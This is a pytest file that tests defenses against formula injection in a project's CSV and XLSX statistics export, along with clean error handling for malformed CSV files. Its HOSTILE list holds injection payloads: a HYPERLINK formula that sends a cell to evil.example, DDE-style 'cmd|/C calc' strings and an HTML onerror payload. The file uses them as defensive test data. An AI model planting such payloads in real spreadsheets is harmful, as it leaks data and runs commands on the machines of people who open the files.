"""Spreadsheets made from hostile input (issue 10): CSV cells never become formulas and read back
as typed, a workbook holds strings and numbers only, and `policypress report xlsx` turns every
bad file into one clear line and exit 2, never a traceback, never a workbook.

The formula rule is reports/cells.py's (README, "Staff pages"); the same corpus goes through the
browser pages in test_spreadsheets_browser.py.
"""

from __future__ import annotations

import copy
import csv
import io
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from calculators import calculate
from policypress.content import load_site
from policypress.export import export_parameters
from reports.cells import (
    FORMULA_STARTS,
    MAX_CELL_CHARS,
    REPORT_IMPORT_MAX_BYTES,
    REPORT_MAX_ROWS,
    escape_cell,
    unescape_cell,
)
from reports.statistics_xlsx import CsvError, read_csv, write_workbook

ROOT = Path(__file__).resolve().parents[2]
SITE = load_site(ROOT)
PARAMETERS = export_parameters(SITE, SITE.documents[0])
TABLE = PARAMETERS["statistics_table"]
WIDTH = len(TABLE["columns"])
GOOD = [1200, 800, 600, 150, 300, 200, 40, 35, 120, 90, 60, 25, 30, 12, 20, 15, 10, "75.5", 1150, 60, 2]
HEADER = "unit," + ",".join(str(n) for n in range(1, WIDTH + 1))

# Cells a hostile or careless hand types: a formula with each leading character, text already
# escaped (once and twice), HTML, CSV's own syntax, a lone tab and a lone carriage return.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already escaped",
    "''=escaped twice",
    "'just an apostrophe",
    "<img src=x onerror=window.__pwned=1>",
    'say "hi", then\nnew line',
    "{=1+1}",
    "http://evil.example/",
    "\t",
    "\r",
]


def csv_text(rows: list[list[str]]) -> str:
    """A CSV as the site's pages write it: every cell by the formula rule, quoted when needed."""
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\r\n").writerows([[escape_cell(cell) for cell in row] for row in rows])
    return "\ufeff" + out.getvalue()


def formulas_in(path_or_bytes: Path | bytes) -> list[str]:
    """Every formula in a workbook, seen twice: openpyxl's cell types and the sheets' XML (<f>)."""
    data = path_or_bytes if isinstance(path_or_bytes, bytes) else path_or_bytes.read_bytes()
    book = openpyxl.load_workbook(io.BytesIO(data))
    found = [f"{sheet.title}!{cell.coordinate}" for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        found += [name for name in archive.namelist() if name.startswith("xl/worksheets/") and b"<f" in archive.read(name)]
    return found


# --- the rule ---------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_an_escaped_cell_never_starts_like_a_formula_and_reads_back_as_typed(text: str) -> None:
    written = escape_cell(text)
    assert not written.startswith(FORMULA_STARTS)
    assert unescape_cell(written) == text
    if text.startswith(FORMULA_STARTS):
        assert written == "'" + text


def test_plain_text_and_numbers_are_left_alone() -> None:
    for text in ["城关镇", "1200", "75.5", "", "a=b", "it's", "'"]:
        assert escape_cell(text) == text == unescape_cell(text)
    assert unescape_cell("'=1") == "=1" and unescape_cell("'x") == "'x"


@pytest.mark.parametrize("text", HOSTILE)
def test_a_csv_round_trip_through_read_csv_gives_back_every_cell(text: str) -> None:
    """Written by the rule, read by reports' reader: the unit is what was typed (trimmed, as
    every unit is), the cell in the file starts with the apostrophe."""
    data = csv_text([["county", "沂南县"], ["month", "2016-11"], HEADER.split(","), [text, *map(str, GOOD)]])
    first_cell = next(csv.reader(io.StringIO(data.removeprefix("\ufeff"), newline="")))[0]
    assert not first_cell.startswith(FORMULA_STARTS)
    row_cell = list(csv.reader(io.StringIO(data.removeprefix("\ufeff"), newline="")))[3][0]
    assert not row_cell.startswith(FORMULA_STARTS)
    assert read_csv(data, TABLE).rows[0]["unit"] == text.strip()


# --- the workbook -----------------------------------------------------------------------------


def report_of(units: list[str]) -> tuple[dict[str, Any], list[dict[str, Any]]]:
    rows = [{"unit": unit, "columns": [str(v) for v in GOOD]} for unit in units]
    result = calculate("stats-report", {"county": "沂南县", "month": "2016-11", "rows": rows}, PARAMETERS)
    assert "errors" not in result, result.get("errors")
    return result, rows


XLSX_UNITS = [text.strip() for text in HOSTILE if text.strip()]


def test_a_workbook_of_hostile_units_holds_them_as_strings_and_no_formula() -> None:
    result, rows = report_of(XLSX_UNITS)
    stream = io.BytesIO()
    write_workbook(result, stream, "zh", rows=rows, parameters=PARAMETERS)
    assert formulas_in(stream.getvalue()) == []
    sheet = openpyxl.load_workbook(io.BytesIO(stream.getvalue())).active
    units = [sheet.cell(6 + i, 1) for i in range(len(XLSX_UNITS))]
    assert [cell.value for cell in units] == XLSX_UNITS
    assert {cell.data_type for cell in units} == {"s"}
    assert all(cell.hyperlink is None for row in sheet.iter_rows() for cell in row)


def test_hostile_labels_title_and_violations_are_strings_too() -> None:
    """The writer does not trust its data either: a formula in the title, a label, the units'
    names or a broken relation's sentence (it quotes the unit) is written as a string."""
    parameters = copy.deepcopy(PARAMETERS)
    table = parameters["statistics_table"]
    parameters["clauses"][table["clause"]]["title"] = {"zh": '=HYPERLINK("http://x")', "en": "=1+1"}
    for column in table["columns"]:
        column["label"] = {"zh": f"=SUM(A{column['number']})", "en": f"@cmd{column['number']}"}
    table["units"]["people"] = {"zh": "+cmd|'/C calc'!A0", "en": "-1+1"}
    broken = list(GOOD)
    broken[10] = 95  # (11) above (10): a violation, whose sentence is written in the notes
    rows = [{"unit": "=1+1", "columns": [str(v) for v in broken]}]
    result = calculate("stats-report", {"county": "沂南县", "month": "2016-11", "rows": rows}, parameters)
    assert result["violations"]
    for lang in ("zh", "en"):
        stream = io.BytesIO()
        write_workbook(result, stream, lang, rows=rows, parameters=parameters)
        assert formulas_in(stream.getvalue()) == []
        strings = [
            c.value for row in openpyxl.load_workbook(io.BytesIO(stream.getvalue())).active.iter_rows() for c in row if c.value is not None
        ]
        assert parameters["clauses"][table["clause"]]["title"][lang] in strings
        assert "=1+1" in strings


def test_the_command_writes_hostile_units_as_strings(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    source.write_text(
        csv_text([["county", "沂南县"], ["month", "2016-11"], HEADER.split(","), *([t, *map(str, GOOD)] for t in XLSX_UNITS)]),
        encoding="utf-8",
    )
    run = command(source, tmp_path / "out.xlsx")
    assert run.returncode == 0, run.stderr
    assert formulas_in(tmp_path / "out.xlsx") == []
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx").active
    assert [sheet.cell(6 + i, 1).value for i in range(len(XLSX_UNITS))] == XLSX_UNITS


# --- `policypress report xlsx` with bad files ---------------------------------------------------


def command(source: Path, output: Path) -> subprocess.CompletedProcess[str]:
    """The real command, in its own process, so a traceback would show on its stderr."""
    return subprocess.run(
        [sys.executable, "-m", "policypress", "--root", str(ROOT), "report", "xlsx", str(source), "-o", str(output)],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def table_csv(rows: list[str], preamble: str = "county,沂南县\nmonth,2016-11\n") -> str:
    return preamble + HEADER + "\n" + "\n".join(rows) + "\n"


def unit_row(unit: str, values: list[Any]) -> str:
    return unit + "," + ",".join(str(v) for v in values)


def with_cell(index: int, value: str) -> list[Any]:
    values: list[Any] = list(GOOD)
    values[index] = value
    return values


BAD_FILES = {  # name → (the CSV, words the one error line must have)
    "a 5000-digit cell": (table_csv([unit_row("城关镇", with_cell(0, "9" * 5000))]), "Line 4"),
    "a 200 kB cell": (table_csv([unit_row("城关镇", with_cell(0, "1" * 200_000))]), "Line 4"),
    "a 200 kB unit name": (table_csv([unit_row("x" * 200_000, GOOD)]), "Line 4"),
    "a cell just over the limit": (table_csv([unit_row("城关镇", with_cell(3, "7" * (MAX_CELL_CHARS + 1)))]), "Line 4"),
    "an unterminated quote": (table_csv([unit_row("城关镇", GOOD), '界湖街道,"1200,800']), "Line 5"),
    "an unterminated quote in the header": (table_csv([unit_row("城关镇", GOOD)], preamble='county,"沂南县\n'), "Line 1"),
    "text after a closing quote": (table_csv([unit_row('"城关镇"x', GOOD)]), "Line 4"),
    "a 999-digit count": (table_csv([unit_row("城关镇", with_cell(0, "9" * 999))]), "15"),
    "money with 14 digits before the point": (table_csv([unit_row("城关镇", with_cell(17, "1" * 14 + ".5"))]), "(18)"),
    "more units than a table has": (
        table_csv([unit_row(f"单位{i}", GOOD) for i in range(REPORT_MAX_ROWS + 1)]),
        f"at most {REPORT_MAX_ROWS}",
    ),
    "a file over the size limit": (table_csv([unit_row("城关镇", GOOD)]) + "\n" * REPORT_IMPORT_MAX_BYTES, "1 MB"),
}


@pytest.mark.parametrize("name", list(BAD_FILES))
def test_a_bad_file_is_one_clear_error_exit_2_and_no_workbook(tmp_path: Path, name: str) -> None:
    text, words = BAD_FILES[name]
    source = tmp_path / "in.csv"
    source.write_text(text, encoding="utf-8")
    run = command(source, tmp_path / "out.xlsx")
    assert run.returncode == 2, run.stdout + run.stderr
    assert "Traceback" not in run.stderr and "internal error" not in run.stderr
    assert words in run.stderr
    assert len(run.stderr.splitlines()) <= 3 and len(run.stderr) < 1000  # a few readable lines, not the cell
    assert " / " in run.stderr  # in both languages, as the command's other errors
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv"]  # no workbook, no partial file


def test_a_missing_output_folder_is_an_error_before_anything_is_written(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    source.write_text(table_csv([unit_row("城关镇", GOOD)]), encoding="utf-8")
    run = command(source, tmp_path / "no" / "such" / "out.xlsx")
    assert run.returncode == 2
    assert "Traceback" not in run.stderr and "internal error" not in run.stderr
    assert "does not exist" in run.stderr and str(tmp_path / "no" / "such") in run.stderr
    assert not (tmp_path / "no").exists()
    run = command(source, tmp_path)  # a folder given as the output file
    assert run.returncode == 2 and "it is a folder" in run.stderr and "Traceback" not in run.stderr


def test_the_largest_allowed_table_is_written(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    source.write_text(table_csv([unit_row(f"单位{i}", GOOD) for i in range(REPORT_MAX_ROWS)]), encoding="utf-8")
    run = command(source, tmp_path / "out.xlsx")
    assert run.returncode == 0, run.stderr
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx").active
    assert sheet.cell(6 + REPORT_MAX_ROWS - 1, 1).value == f"单位{REPORT_MAX_ROWS - 1}"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "out.xlsx"]


def test_read_csv_names_the_line_a_record_starts_on() -> None:
    """Line numbers count the file's lines, so a quoted cell over two lines moves the rest down."""
    text = table_csv(['"城关\n镇",' + ",".join(map(str, GOOD)), unit_row("界湖街道", with_cell(0, "x"))])
    assert [row["unit"] for row in read_csv(text, TABLE).rows] == ["城关\n镇", "界湖街道"]
    with pytest.raises(CsvError) as error:
        read_csv(table_csv(['"城关\n镇",' + ",".join(map(str, GOOD)), '界湖街道,"1']), TABLE)
    assert error.value.message["en"].startswith("Line 6:")
